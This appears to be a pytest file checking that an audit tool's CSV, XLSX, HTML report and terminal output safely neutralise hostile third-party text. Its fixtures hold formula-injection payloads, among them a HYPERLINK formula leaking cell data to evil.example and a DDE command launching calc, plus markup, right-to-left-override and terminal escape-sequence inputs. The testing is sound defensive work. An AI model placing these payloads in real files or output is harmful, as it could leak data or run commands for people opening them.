"""Published files under attack (issue 12, items 1 and 7): spreadsheets, the HTML report and the terminal.

Posts and page titles are written by third parties; the CSV/XLSX are opened in Excel, the report in browsers,
the summary table in terminals. Each case asserts its figure (docs/reliability.md, "Cases and asserted figures").
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from parity.core.records import Post, SourceStatus, Verdict, WebItem
from parity.report import summarise, write_audit_outputs
from parity.report.tabular import CELL_LIMIT, read_csv, restore_cell, safe_cell
from tests.support.run import run_parity

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3",
            "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "'=already quoted"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
LONG = "Å" * 200_000


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An audit folder whose posts, page titles, missing facts and organisation names are formulas."""
    folder = tmp_path_factory.mktemp("hostile-outputs")
    posts = [Post(id=f"p{i}", org="o", platform="mastodon", text=text, url=f"https://m.example/{i}",
                  published_at="2026-03-01T08:00:00Z") for i, text in enumerate([*FORMULAS, LONG, "Vanlig text"])]
    web = [WebItem(id="w", org="o", source="page", url="https://o.se/a", title="=1+2 titel")]
    verdicts = [Verdict(post_id=p.id, org="o", verdict="partial" if i == 0 else "social_only",
                        web_id="w" if i == 0 else None, missing_facts=["-kl. 8"] if i == 0 else [], lag_hours=-1.5,
                        score=0.5, reason="no page shares the post's content") for i, p in enumerate(posts)]
    sources = [SourceStatus(org="o", kind="feed", url="https://o.se/rss", status="ok", items=1)]
    summary = summarise(posts, verdicts, sources, {"o": "=Orten"})
    write_audit_outputs(folder, posts, web, verdicts, sources, summary)
    return folder


def jsonl(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]


def test_csv_cells_are_neutralised_and_capped_for_the_csv_module(hostile: Path) -> None:
    """Read as Excel would (``;``, BOM) with Python's csv module at its default field size limit (131,072)."""
    raw = (hostile / "verdicts.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Swedish Excel shows å/ä/ö right
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert len(rows) == len(FORMULAS) + 2
    cells = [cell for row in rows for cell in row.values() if cell and not re.fullmatch(r"-?\d+(,\d+)?", cell)]
    assert [c for c in cells if c.startswith(TRIGGERS)] == []  # no text cell a spreadsheet would evaluate
    quoted = [c for c in cells if re.match(r"'+[=+\-@\t\r]", c)]
    # the 8 formula posts, the page title, the missing fact, and the organisation's name on each of the 10 rows
    assert len(quoted) == len(FORMULAS) + 1 + 1 + 10
    long_cell = next(row["post_text"] for row in rows if row["post_id"] == f"p{len(FORMULAS)}")
    assert len(long_cell) == CELL_LIMIT and long_cell.endswith("the full text is in the .jsonl files]")
    assert "200,000 characters" in long_cell


def test_csv_read_back_with_pandas_equals_verdicts_jsonl(hostile: Path) -> None:
    """The documented reading (parity.report.tabular.read_csv: excel-sv dialect, one leading quote undone):
    every verdict field equals verdicts.jsonl, every post text equals posts.jsonl except the capped one."""
    table = read_csv(hostile / "verdicts.csv")
    verdicts, posts = jsonl(hostile / "verdicts.jsonl"), {p["id"]: p for p in jsonl(hostile / "posts.jsonl")}
    assert list(table["post_id"]) == [v["post_id"] for v in verdicts]
    for row, verdict in zip(table.to_dict("records"), verdicts):
        for field in ("org", "verdict", "reason", "score", "lag_hours"):
            assert row[field] == verdict[field], field
        assert (row["web_id"] if row["web_id"] == row["web_id"] else None) == verdict["web_id"]
        assert (row["missing_facts"] if row["missing_facts"] == row["missing_facts"] else "") == \
            "; ".join(verdict["missing_facts"])
        text = posts[row["post_id"]]["text"]
        if len(text) <= CELL_LIMIT:
            assert row["post_text"] == text
        else:
            assert text.startswith(row["post_text"][: CELL_LIMIT - 100])


def test_xlsx_holds_the_same_rows_and_no_formula(hostile: Path) -> None:
    from openpyxl import load_workbook

    book = load_workbook(hostile / "verdicts.xlsx")
    assert book.sheetnames == ["ranking", "o"]
    sheet = book["o"]
    rows = list(sheet.iter_rows(values_only=True))
    header, body = rows[0], rows[1:]
    assert len(body) == len(FORMULAS) + 2 and header[0] == "post_id"
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    texts = [row[header.index("post_text")] for row in body]
    assert [restore_cell(t) for t in texts[: len(FORMULAS)]] == FORMULAS
    assert len(texts[len(FORMULAS)]) == CELL_LIMIT
    assert book["ranking"]["C2"].value == "'=Orten"


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=60))
def test_the_quote_rule_is_undone_exactly(text: str) -> None:
    safe = safe_cell(text)
    assert not safe.startswith(TRIGGERS)
    assert restore_cell(safe) == text


def test_report_html_policy_bidi_and_length(tmp_path: Path) -> None:
    """Content-Security-Policy with the script's hash; an RTL override shown as [U+202E]; a 200,000-character
    token clipped to 4,000 shown characters; markup in names escaped."""
    posts = [Post(id="p1", org="o", platform="mastodon", text="a\u202eexe.png" + "x" * 200_000,
                  published_at="2026-03-01T08:00:00Z")]
    verdicts = [Verdict(post_id="p1", org="o", verdict="social_only")]
    write_audit_outputs(tmp_path, posts, [], verdicts, [], summarise(posts, verdicts, [], {"o": "<b>Orten</b>"}))
    html = (tmp_path / "report.html").read_text(encoding="utf-8")
    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', html).group(1)
    script = re.search(r"<script>(.*?)</script>", html, re.S).group(1)
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert policy.startswith("default-src 'none'; style-src 'unsafe-inline'; img-src data:; ")
    assert f"script-src 'sha256-{digest}'" in policy and html.count("<script") == 1
    assert "\u202e" not in html and "a[U+202E]exe.png" in html
    # 4,000 characters shown: "a", the override, "exe.png" and 3,991 of the x's
    assert "x" * 3991 in html and "x" * 3992 not in html and len(html) < 200_000
    assert "<b>Orten</b>" not in html and "&lt;b&gt;Orten&lt;/b&gt;" in html
    assert " on" + "click=" not in html and "javascript:" not in html


def test_terminal_output_escapes_markup_and_control_sequences(tmp_path: Path) -> None:
    """``parity report`` on records whose ``org`` is rich markup and an OSC 8 hyperlink: exit 0, the table shows the
    value literally, no ESC or BEL reaches the terminal."""
    org = "[/bold]x\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07\x1b[31m"
    posts = [Post(id="p1", org=org, platform="mastodon", text="Hej", published_at="2026-03-01T08:00:00Z")]
    verdicts = [Verdict(post_id="p1", org=org, verdict="social_only")]
    write_audit_outputs(tmp_path, posts, [], verdicts, [], summarise(posts, verdicts, []))
    result = run_parity("report", tmp_path, env={"COLUMNS": "200"})
    assert result.code == 0, result.stderr
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "[/bold]x[U+001B]]8;;http://evil.example/[U+0007]click" in result.stdout


def test_log_lines_show_control_characters_literally() -> None:
    """The stderr formatters of parity and of the crawl process: an ESC, a BEL or an RTL override in a logged
    URL or server message is written as ``[U+XXXX]``, never sent to the terminal."""
    import logging

    from crawler.run import configure_logging as crawl_logging
    from parity.cli.console import setup_logging

    record = logging.LogRecord("crawler", logging.WARNING, __file__, 1, "%s failed: %s",
                               ("http://x/\x1b[2J", "boom\x07\u202e"), None)
    root = logging.getLogger()
    kept = (root.handlers[:], root.level)
    try:
        for setup in (setup_logging, lambda: crawl_logging(False)):
            setup()
            line = root.handlers[0].format(record)
            assert line.endswith("http://x/[U+001B][2J failed: boom[U+0007][U+202E]"), line
    finally:
        root.handlers[:], _ = kept[0], root.setLevel(kept[1])


def test_an_organisation_without_rated_posts_has_an_empty_rank_in_every_export(tmp_path: Path) -> None:
    """Only ``unverifiable`` verdicts (a web side that could not be read): the rank is empty, not an error."""
    from openpyxl import load_workbook

    posts = [Post(id="p1", org="o", platform="mastodon", text="Hej", published_at="2026-03-01T08:00:00Z")]
    verdicts = [Verdict(post_id="p1", org="o", verdict="unverifiable")]
    sources = [SourceStatus(org="o", kind="feed", status="failed", error="robots_unreachable")]
    write_audit_outputs(tmp_path, posts, [], verdicts, sources, summarise(posts, verdicts, sources))
    assert load_workbook(tmp_path / "verdicts.xlsx")["ranking"]["A2"].value is None
    assert read_csv(tmp_path / "ranking.csv")["rank"].isna().all()
